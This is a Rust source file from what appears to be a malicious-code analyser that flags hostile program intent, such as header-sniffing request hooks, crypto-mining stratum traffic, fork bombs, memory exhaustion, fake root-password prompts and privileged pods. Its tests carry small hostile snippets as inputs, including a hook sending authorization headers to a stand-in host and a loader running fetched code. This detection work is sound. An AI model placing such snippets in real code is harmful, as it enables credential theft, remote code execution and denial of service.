//! What a program is for, where no single call shows it: keys that are looked at on their way, currencies that are dug for, a machine
//! that is filled bit by bit, passwords that are asked for in somebody else's name, code that a loader fetches.

use std::rc::Rc;

use super::call::{Given, Place};
use super::evaluate::TOLD_BY;
use super::loops::hoards;
use super::value::{ANY_KEY, Field, Held, Value};
use super::walk::Walk;
use crate::analysis::{Contact, Fact, Flow, Privilege, SystemAct};
use crate::language::Language;
use crate::span::Span;
use crate::text::Text;

/// Functions that every request of a program goes through.
const WAYS_OUT: &[&str] = &[
    "http.request",
    "http.get",
    "https.request",
    "https.get",
    "http2.connect",
    "fetch",
    "axios.request",
    "axios.post",
    "axios.get",
    "undici.request",
    "got.extend",
    "http.ClientRequest",
    "XMLHttpRequest.prototype.send",
    "XMLHttpRequest.prototype.open",
    "XMLHttpRequest.prototype.setRequestHeader",
];

/// Functions that call what they are given a moment later.
const SOON: &[&str] = &["setImmediate", "process.nextTick", "queueMicrotask", "setTimeout", "setInterval"];
/// Milliseconds that are as good as none.
const AT_ONCE: i64 = 50;

/// Functions that ask the person something.
const ASKS: &[&str] = &[
    "input",
    "raw_input",
    "getpass.getpass",
    "prompt",
    "readline-sync.question",
    "click.prompt",
    "prompts",
    "prompts.default",
    "inquirer.prompt",
    "inquirer.default.prompt",
    "enquirer.prompt",
    "@inquirer/prompts.password",
    "@clack/prompts.password",
    "read",
    "password-prompt",
    "questionary.password",
    "rich.prompt.Prompt.ask",
];

/// How deep an order is looked into, and how many fields of one object.
const LEVELS: usize = 8;
const FIELDS: usize = 16;

/// What programs say that dig for a currency.
const DIGS: &[&str] = &["mining.subscribe", "mining.authorize", "mining.submit", "eth_submitLogin", "eth_submitWork"];

impl Walk<'_, '_> {
    /// Looks at a call for what the program as a whole is for.
    pub(super) fn purpose(&mut self, name: &str, given: &Given) {
        let first = given.args.first();
        if SOON.contains(&name) && self.language != Language::Python {
            let soon = name != "setTimeout"
                || given.args.get(1).is_none_or(|wait| wait.number.is_some_and(|wait| wait < AT_ONCE));
            for number in first.iter().flat_map(|first| first.functions.iter()).copied() {
                if name == "setInterval" {
                    self.hoards_each_time(number, given.span);
                } else if soon && self.inside.last() == Some(&number) {
                    self.goes_on(number);
                }
            }
        }
        // Names of clouds, clusters and services of repositories begin with one of these.
        if matches!(name.as_bytes().first(), Some(b'@' | b'a' | b'b' | b'g' | b'i' | b'k' | b'o')) {
            self.orders(name, given);
        }
        if matches!(name, "JSON.stringify" | "json.dumps") {
            first.iter().for_each(|order| self.digs(order, given.span));
        }
        let talks = name.ends_with(".write") || name.ends_with(".send") || name.ends_with(".sendall");
        if talks && first.is_some_and(|line| line.texts.iter().any(is_order_to_dig)) {
            self.tells_of_digging(given.span);
        }
        let asks = ASKS.contains(&name) || name.ends_with("createInterface().question");
        let for_root = |text: &Text| {
            let text = text.to_string();
            text.len() < 512
                && (text.contains("[sudo]") || text.contains("Password for root") || text.contains("root password"))
        };
        let prompts = |arg: &Held| {
            let shown = arg.items.iter().flat_map(|items| items.iter().take(4)).chain([arg]);
            shown.into_iter().any(|arg| {
                arg.texts.iter().any(for_root)
                    || arg.field("message").is_some_and(|message| message.texts.iter().any(for_root))
            })
        };
        if asks && (given.args.iter().any(prompts) || given.named.iter().any(|(_, held, _)| prompts(held))) {
            // It asks in the name of the program that makes root of whoever answers.
            self.tell(given.span, Fact::Privilege { privilege: Privilege::OtherUser });
        }
    }

    /// Orders to a cluster or a cloud that say in their words what they open.
    fn orders(&mut self, name: &str, given: &Given) {
        let last = name.rsplit('.').next().unwrap_or(name);
        if name.starts_with("@kubernetes/client-node") || name.starts_with("kubernetes.client") {
            let named = given.named.iter().any(|(key, held, _)| opens_the_machine(key, held));
            if named || given.all().any(|arg| says(arg, LEVELS, &opens_the_machine)) {
                self.tell(given.span, Fact::Privilege { privilege: Privilege::ContainerEngine });
            }
        }
        let lets_in =
            ["AuthorizeSecurityGroupIngress", "authorizeSecurityGroupIngress", "authorize_security_group_ingress"];
        if lets_in.iter().any(|start| last.starts_with(start)) {
            let everybody = |_: &str, held: &Value| matches!(held.as_known(), Some("0.0.0.0/0" | "::/0"));
            let named = given.named.iter().any(|(_, held, _)| everybody("", held));
            if named || given.all().any(|arg| says(arg, LEVELS, &everybody)) {
                let about = Text::known("everybody may connect");
                self.tell(given.span, Fact::System { act: SystemAct::Firewall, about });
            }
        }
        let is_repository =
            ["github.", "@octokit/", "octokit.", "@actions/github."].iter().any(|of| name.starts_with(of));
        if is_repository && matches!(last, "edit" | "update") {
            let shows = |key: &str, held: &Value| match key {
                "private" => held.truth == Some(false),
                "visibility" => held.as_known() == Some("public"),
                _ => false,
            };
            let named = given.named.iter().any(|(key, held, _)| shows(key, held));
            if named || given.args.iter().any(|arg| says(arg, 1, &shows)) {
                self.tell(given.span, Fact::Calls { name: Text::known("(made public)") });
            }
        }
        if matches!(last, "UpdateFunctionCodeCommand" | "updateFunctionCode" | "update_function_code") {
            let fetched = |_: &str, held: &Value| held.flows.iter().any(|flow| *flow == Flow::Network);
            let named = given.named.iter().any(|(_, held, _)| fetched("", held));
            if named || given.all().any(|arg| says(arg, 1, &fetched)) {
                self.tell(given.span, Fact::Executes { from: vec![Flow::Network] });
            }
        }
        if name == "inspector.Session().post"
            && given.args.first().and_then(|method| method.as_known()) == Some("Runtime.evaluate")
            && let Some(code) = given.args.get(1).and_then(|order| order.field("expression"))
        {
            self.evaluates(Some((code, Place { span: given.span, literal: None })));
        }
    }

    /// A function that something else is put in the place of sees each request, with the keys that it carries.
    pub(super) fn looks_on(&mut self, name: &str, held: &Held) {
        if self.language == Language::Python || !WAYS_OUT.contains(&name) {
            return;
        }
        let mut key = Value::default();
        key.flows.add(&Flow::Environment);
        let key = Rc::new(key);
        let headers = Rc::new(Value::object(vec![(ANY_KEY.into(), Rc::clone(&key))]));
        let options = Rc::new(Value::object(vec![("headers".into(), headers), ("auth".into(), key)]));
        for number in held.functions.iter().copied().collect::<Vec<_>>() {
            self.enter_function(number, &[(0, Rc::clone(&options)), (1, Rc::clone(&options))]);
        }
    }

    /// Functions that are told of something by a library find it by `this`.
    pub(super) fn told_by(&mut self, teller: &Value) {
        let leads = teller.names.iter().filter(|name| self.book.ability(name).is_some());
        let tellers = Value { names: leads.cloned().collect(), ..Value::default() };
        if !tellers.names.is_empty() {
            self.scopes.set_attribute(TOLD_BY, &Rc::new(tellers));
        }
    }

    /// An object that tells a loader what a module is made of.
    pub(super) fn brings_code(&mut self, fields: &[Field], span: Span) {
        let held = |name: &str| fields.iter().find(|(key, _)| **key == *name).map(|(_, held)| held);
        let code = match (held("contents"), held("loader"), held("source"), held("format")) {
            (Some(code), Some(_), _, _) | (_, _, Some(code), Some(_)) => code,
            _ => return,
        };
        if code.flows.iter().any(|flow| matches!(flow, Flow::Network | Flow::Decoded)) {
            self.tell(span, Fact::Executes { from: vec![Flow::Network] });
        }
    }

    /// What is called again and again takes room each time, and gives none back.
    fn hoards_each_time(&mut self, number: usize, span: Span) {
        if self.body_of(number).is_some_and(|function| hoards(&function.body)) {
            self.tell(span, Fact::System { act: SystemAct::Exhaustion, about: Text::known("memory, bit by bit") });
        }
    }

    /// `{method: 'login', params: {login: …}}` and its kin, as those speak who dig together.
    fn digs(&mut self, order: &Value, span: Span) {
        let word = |key: &str| order.field(key).and_then(|held| held.as_known().map(str::to_owned)).unwrap_or_default();
        let method = word("method");
        let has = |key: &str| {
            order.field("params").is_some_and(|params| {
                params.field(key).is_some()
                    || params.items.iter().flat_map(|items| items.iter()).any(|item| item.field(key).is_some())
            })
        };
        let digs = DIGS.contains(&method.as_str())
            || method == "login" && has("login")
            || method == "submit" && (has("nonce") || has("job_id"));
        if digs {
            self.tells_of_digging(span);
        }
    }

    fn tells_of_digging(&mut self, span: Span) {
        let place = Text::known("stratum");
        self.tell(span, Fact::Contacts { place, contact: Contact::Connect, sends: Vec::new() });
    }
}

/// Whether a field opens the machine to what runs in a pod.
fn opens_the_machine(key: &str, held: &Value) -> bool {
    match key {
        "hostPID" | "hostNetwork" | "hostIPC" | "privileged" | "host_pid" | "host_network" | "host_ipc" => {
            held.truth == Some(true)
        }
        "hostPath" | "host_path" => held.fields.is_some() || !held.names.is_empty(),
        _ => false,
    }
}

/// Whether any field, in an object or a list within it, is of that kind.
fn says(held: &Value, levels: usize, wanted: &dyn Fn(&str, &Value) -> bool) -> bool {
    let fields = held.fields.iter().flat_map(|fields| fields.iter().take(FIELDS));
    let items = held.items.iter().flat_map(|items| items.iter().take(FIELDS));
    levels > 0
        && (fields.into_iter().any(|(key, field)| wanted(key, field) || says(field, levels - 1, wanted))
            || items.into_iter().any(|item| says(item, levels - 1, wanted)))
}

/// A line of the language of those who dig together.
fn is_order_to_dig(text: &Text) -> bool {
    let text = text.to_string();
    if text.len() > 4096 {
        return false;
    }
    let plain: String = text.chars().filter(|sign| !sign.is_whitespace()).collect();
    DIGS.iter().any(|word| plain.contains(word))
        || plain.contains("\"method\":\"login\"") && plain.contains("\"login\":\"")
        || plain.contains("\"method\":\"submit\"") && plain.contains("\"nonce\"")
}

#[cfg(test)]
mod tests {
    use crate::code::told::facts;
    use crate::language::Language;

    fn has(source: &str, start: &str) -> bool {
        facts(Language::TypeScript, source).iter().any(|line| line.starts_with(start))
    }

    #[test]
    fn whoever_puts_itself_in_the_way_of_requests_sees_their_keys() {
        let hook = |body: &str| {
            format!("const h = require('https'); const o = h.request; h.request = function (options) {{ {body} }};")
        };
        let sends = "contacts Send stranger.example [Environment";
        let told =
            hook("o({ host: 'stranger.example', path: '/?' + options.headers.authorization }); return o(options);");
        assert!(has(&told, sends), "{:#?}", facts(Language::TypeScript, &told));
        assert!(!has(&hook("console.log(options.host); return o.apply(this, arguments);"), "contacts Send … [Env"));
    }

    #[test]
    fn what_is_fetched_and_handed_to_a_loader_is_run() {
        let load = |code: &str| format!("b.onLoad({{}}, async (a) => ({{ contents: {code}, loader: 'ts' }}));");
        assert!(has(&load("await (await fetch('http://x.example/' + a.path)).text()"), "executes Network"));
        assert!(!has(&load("require('fs').readFileSync(a.path, 'utf8')"), "executes"));
    }

    #[test]
    fn a_function_that_has_itself_called_again_goes_on_without_end() {
        let again = |way: &str| {
            format!("const {{ fork }} = require('child_process'); (function go() {{ fork(__filename); {way} }})();")
        };
        assert!(has(&again("setImmediate(go)"), "system Exhaustion"));
        assert!(has(&again("go()"), "system Exhaustion"));
        assert!(!has(&again("setTimeout(go, 60000)"), "system Exhaustion"));
    }

    #[test]
    fn what_keeps_much_each_time_fills_the_memory_and_what_keeps_little_does_not() {
        assert!(has("const a = []; setInterval(() => a.push(Buffer.alloc(1 << 28)), 1);", "system Exhaustion"));
        assert!(!has("const a = []; setInterval(() => a.push(Date.now()), 1);", "system Exhaustion"));
        assert!(has("for (;;) fetch('https://x.example/?' + Math.random()).catch(() => {});", "system Exhaustion"));
        assert!(!has("for (;;) fetch('http://localhost:3000/').catch(() => {});", "system Exhaustion"));
    }

    #[test]
    fn orders_to_dig_are_told_however_they_are_written() {
        let line = "'{\"method\": \"login\", \"params\": {\"login\": \"44AF\"}}'";
        let object = "JSON.stringify({ method: 'mining.subscribe', params: [] })";
        for order in [line, object] {
            assert!(has(
                &format!("require('net').connect(3333, 'x.example').write({order})"),
                "contacts Connect stratum"
            ));
        }
        assert!(!has(
            "ws.send(JSON.stringify({ method: 'login', params: { user: 'a' } }))",
            "contacts Connect stratum"
        ));
    }

    #[test]
    fn a_handler_finds_by_this_what_it_was_hung_on() {
        let source = "new (require('ssh2').Client)().on('ready', function () { this.exec('id -u') })";
        assert!(has(source, "shell id -u"));
    }

    #[test]
    fn orders_that_open_a_machine_a_network_or_a_repository_are_told_by_their_words() {
        let pod = |field: &str| {
            format!(
                "new (require('@kubernetes/client-node').CoreV1Api)().createNamespacedPod('a', {{ spec: {{ {field} }} }})"
            )
        };
        assert!(has(&pod("containers: [{ securityContext: { privileged: true } }]"), "privilege ContainerEngine"));
        assert!(!has(&pod("hostPID: false, containers: [{ image: 'a' }]"), "privilege"));
        let rule = |from: &str| {
            format!("new (require('aws-sdk').EC2)().authorizeSecurityGroupIngress({{ CidrIp: '{from}' }})")
        };
        assert!(has(&rule("0.0.0.0/0"), "system Firewall") && !has(&rule("10.0.0.0/24"), "system Firewall"));
        let shown = |private: &str| {
            format!("new (require('@octokit/rest').Octokit)().rest.repos.update({{ repo: 'a', private: {private} }})")
        };
        assert!(has(&shown("false"), "calls (made public)") && !has(&shown("true"), "calls (made public)"));
    }
}
